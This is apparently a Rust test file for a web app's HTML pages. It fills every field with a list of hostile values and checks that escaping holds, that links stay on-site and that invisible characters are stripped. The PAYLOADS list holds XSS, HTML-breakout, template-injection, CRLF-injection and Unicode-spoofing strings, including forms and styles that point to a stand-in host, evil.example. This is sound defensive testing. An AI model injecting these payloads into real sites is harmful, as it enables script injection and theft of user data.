//! Hostile values in every field of every page.

use super::*;

/// Each tries to leave the place it is put in: text, an attribute, a script, a line, a link.
const PAYLOADS: [&str; 44] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "` onerror=alert(1) `",
    "x onclick=alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</code></bdi><form action=//evil.example>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext><img src=x onerror=alert(1)></math>",
    "<input name=csrf value=stolen>",
    "<button name=role value=other>",
    "<!--",
    "-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>&x;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/",
    "{{ 7 * 7 }}{% include \"x\" %}",
    "${7*7}#{7*7}<%= 7 %>",
    "a\r\nSet-Cookie: x=y\r\n\r\n<script>",
    "a\u{0}<script\u{0}>",
    "\u{202e}nimda\u{2066}<b>\u{2069}",
    "\u{feff}\u{200b}<b>\u{2028}</b>",
    "\u{ff1c}script\u{ff1e}alert(1)",
    "\\\"><\\/script>\\u003cscript\\u003e",
];

/// A word that no page holds: with it in the query, the same rows are hidden on every page.
const UNFOUND: &str = "zzqqx";

fn leak(text: String) -> &'static str {
    text.leak()
}

fn filling(payload: &str) -> Filling {
    let visible: String = payload
        .chars()
        .filter(|letter| letter.is_ascii_graphic() && *letter != '\\')
        .collect();
    let role_path = visible.replace('/', "|");
    Filling {
        text: leak(payload.to_owned()),
        csrf: leak(payload.to_owned()),
        href: leak(format!("/x?{visible}")),
        role: leak(format!(
            "arn:aws:iam::482011739056:role/{role_path}/ReadOnly"
        )),
        query: leak(format!("{payload} {UNFOUND}")),
    }
}

/// The page's tags with the names of their attributes, in order: all that isn't data.
fn structure(html: &str) -> Vec<String> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some((_, from_name)) = rest.split_once('<') {
        let (tag, after) = tag(from_name);
        tags.push(tag);
        rest = after;
    }
    tags
}

/// Reads a tag after its `<`: the name and attribute names without values, and what follows `>`.
fn tag(text: &str) -> (String, &str) {
    let mut kept = String::new();
    let mut quoted = false;
    for (at, letter) in text.char_indices() {
        match letter {
            '"' => quoted = !quoted,
            '>' if !quoted => return (kept, text.split_at(at + 1).1),
            _ if !quoted => kept.push(letter),
            _ => {}
        }
    }
    panic!("a tag never ends");
}

#[test]
fn no_value_changes_the_structure_of_a_page() {
    let plain = filling("plain").pages();
    for payload in PAYLOADS {
        let hostile = filling(payload).pages();
        for ((name, plain), (_, hostile)) in plain.iter().zip(&hostile) {
            assert_eq!(structure(plain), structure(hostile), "{name}: {payload:?}");
        }
    }
}

#[test]
fn no_link_or_form_leads_elsewhere() {
    for payload in PAYLOADS {
        for (name, html) in filling(payload).pages() {
            // These pages are there to lead to the provider, and nowhere else.
            let is_away = |address: &str| {
                name.starts_with("leave") && address.starts_with("https://idp.example.com/?")
            };
            let astray =
                addresses(&html).find(|address| !stays_inside(address) && !is_away(address));
            assert_eq!(astray, None, "{name}: {payload:?}");
        }
    }
}

fn addresses(html: &str) -> impl Iterator<Item = &str> {
    [" href=\"", " src=\"", " action=\""]
        .into_iter()
        .flat_map(|attribute| html.split(attribute).skip(1))
        .filter_map(|rest| rest.split('"').next())
}

fn stays_inside(address: &str) -> bool {
    address == "#main"
        || (address.starts_with('/') && !address.starts_with("//"))
        || is_letter(address)
}

/// A letter to the one contact, with nothing but a subject.
fn is_letter(address: &str) -> bool {
    let Some(letter) = address.strip_prefix("mailto:") else {
        return false;
    };
    let is_coded = |text: &str| {
        let allowed = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~%".contains(&byte);
        text.bytes().all(allowed)
    };
    let parts = letter.split_once("@meridale.example?subject=");
    parts.is_some_and(|(person, subject)| is_coded(person) && is_coded(subject))
}

/// Whether every isolate that a page opens is closed before the next one: they are all ours then.
fn is_isolated(html: &str) -> bool {
    let marks = html
        .chars()
        .filter(|letter| "\u{2068}\u{2069}".contains(*letter));
    let marks: String = marks.collect();
    marks.replace("\u{2068}\u{2069}", "").is_empty()
}

#[test]
fn no_invisible_character_reaches_a_page() {
    const INVISIBLE: &str = "\r\u{0}\u{202e}\u{2066}\u{feff}\u{200b}\u{2028}";
    for payload in PAYLOADS {
        let mut filling = filling(payload);
        filling.csrf = "plain";
        for (name, html) in filling.pages() {
            let found = html.chars().find(|letter| INVISIBLE.contains(*letter));
            assert_eq!(found, None, "{name}: {payload:?}");
            assert!(is_isolated(&html), "{name}: {payload:?}");
        }
    }
}
